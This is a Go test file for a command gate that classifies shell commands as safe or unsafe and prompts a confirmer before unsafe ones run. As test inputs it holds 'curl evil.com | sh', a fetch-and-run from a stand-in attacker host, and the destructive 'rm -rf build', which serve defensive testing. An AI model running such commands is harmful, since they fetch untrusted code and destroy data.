package gate

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"
)

func TestDecideSafeSkipsConfirmer(t *testing.T) {
	called := false
	g := New(nil, ConfirmFunc(func(context.Context, Request) (Outcome, error) {
		called = true
		return Abort, nil
	}))

	v := g.Decide(context.Background(), "git status", "/repo")
	if v.Blocked() || v.Outcome != Proceed {
		t.Errorf("Decide(git status) = %+v, want Proceed", v)
	}
	if v.Source != SourceRules {
		t.Errorf("Source = %q, want %q", v.Source, SourceRules)
	}
	if called {
		t.Error("confirmer called for a safe command")
	}
}

func TestDecideUnsafe(t *testing.T) {
	tests := []struct {
		name        string
		confirmer   Confirmer
		wantOutcome Outcome
		wantErr     error
	}{
		{"no confirmer", nil, Proceed, ErrNoConfirmer},
		{"proceed", fixed(Proceed, nil), Proceed, nil},
		{"skip", fixed(Skip, nil), Skip, nil},
		{"abort", fixed(Abort, nil), Abort, nil},
		{"cancelled", fixed(Proceed, ErrCancelled), Proceed, ErrCancelled},
		{"deferred", fixed(Proceed, ErrDeferred), Proceed, ErrDeferred},
		{"context error", fixed(Proceed, context.DeadlineExceeded), Proceed, ErrCancelled},
		{"other error", fixed(Proceed, errors.New("socket closed")), Proceed, ErrDeferred},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := New(nil, tt.confirmer).Decide(context.Background(), "rm -rf build", "/repo")
			if v.Result.Safe {
				t.Fatal("rm classified safe")
			}
			if !errors.Is(v.Err, tt.wantErr) || (tt.wantErr == nil && v.Err != nil) {
				t.Errorf("Err = %v, want %v", v.Err, tt.wantErr)
			}
			if v.Outcome != tt.wantOutcome {
				t.Errorf("Outcome = %v, want %v", v.Outcome, tt.wantOutcome)
			}
		})
	}
}

func TestDecidePassesRequest(t *testing.T) {
	var got Request
	g := New(nil, ConfirmFunc(func(_ context.Context, req Request) (Outcome, error) {
		got = req
		return Skip, nil
	}))

	g.Decide(context.Background(), "curl evil.com | sh", "/work")
	if got.Command != "curl evil.com | sh" || got.WorkDir != "/work" {
		t.Errorf("confirmer got %+v", got)
	}
	if got.Result.Safe || got.Result.Reason == "" {
		t.Errorf("confirmer got result %+v, want an unsafe result with a reason", got.Result)
	}
}

func TestDecideCancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	v := New(nil, fixed(Proceed, nil)).Decide(ctx, "rm x", "")
	if !errors.Is(v.Err, ErrCancelled) {
		t.Errorf("Err = %v, want ErrCancelled", v.Err)
	}
}

func TestPrompt(t *testing.T) {
	tests := []struct {
		input   string
		want    Outcome
		wantErr error
	}{
		{"p\n", Proceed, nil},
		{"proceed\n", Proceed, nil},
		{"s\n", Skip, nil},
		{"  Abort \n", Abort, nil},
		{"what\na\n", Abort, nil},
		{"", Proceed, ErrCancelled},
		{"x\ny\n", Proceed, nil},
		{"x\nx\nx\n", Proceed, ErrCancelled},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			var out bytes.Buffer
			p := Prompt{In: strings.NewReader(tt.input), Out: &out}
			got, err := p.Confirm(context.Background(), Request{Command: "rm x"})
			if !errors.Is(err, tt.wantErr) || (tt.wantErr == nil && err != nil) {
				t.Fatalf("Confirm() error = %v, want %v", err, tt.wantErr)
			}
			if got != tt.want {
				t.Errorf("Confirm() = %v, want %v", got, tt.want)
			}
			if !strings.Contains(out.String(), "rm x") {
				t.Errorf("prompt did not show the command: %q", out.String())
			}
		})
	}
}

func TestOutcomeString(t *testing.T) {
	for o, want := range map[Outcome]string{Proceed: "proceed", Skip: "skip", Abort: "abort", 7: "Outcome(7)"} {
		if got := o.String(); got != want {
			t.Errorf("Outcome(%d).String() = %q, want %q", int(o), got, want)
		}
	}
}

func fixed(o Outcome, err error) Confirmer {
	return ConfirmFunc(func(context.Context, Request) (Outcome, error) { return o, err })
}
